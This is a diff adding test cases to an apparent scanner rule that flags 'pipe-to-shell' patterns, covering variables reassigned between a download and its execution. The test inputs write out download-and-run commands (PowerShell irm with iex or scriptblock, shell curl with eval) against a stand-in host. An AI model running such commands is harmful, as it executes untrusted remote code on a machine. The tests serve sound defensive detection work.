@@ -619,6 +619,24 @@ describe("pipe-to-shell", () => {
     expect(rules("p/s/run.ps1", `${text}\n`)).toEqual([]);
   });
 
+  // Decision: a variable set anew between keeping a download and running it still runs the download here.
+  // Which assignment runs is control flow (`if ($false) { $b = … }` reassigns nothing), which the rule does
+  // not read: tracking the last assignment in the text would let a dead one hide the run.
+  it.each([
+    [
+      "$b = block; $b = { safe }; & $b",
+      "$b = [scriptblock]::Create((irm https://x.example/i.ps1)); $b = { 'safe' }; & $b",
+    ],
+    [
+      "$b = block; if (…) { $b = { safe } }; & $b",
+      "$b = [scriptblock]::Create((irm https://x.example/i.ps1))\nif ($false) { $b = { 'safe' } }\n& $b",
+    ],
+    ["$s = irm; $s = 'Get-Date'; iex $s", "$s = irm https://x.example/i.ps1\n$s = 'Get-Date'\niex $s"],
+    ['x=$(curl); x=true; eval "$x"', 'x=$(curl -fsSL https://x.example/i.sh); x=true; eval "$x"'],
+  ])("flags a kept download run after its variable is set anew: %s", (_, text) => {
+    expect(rules("p/s/run.ps1", `${text}\n`)).toEqual(["1 pipe-to-shell"]);
+  });
+
   // Regression: a PowerShell block comment, on one line or several, was read as commands.
   it.each([
     ["p/s/run.ps1", "<# never: iex (irm https://x.example/i.ps1) #>\nirm https://x.example/i.ps1 | iex\n", 2],
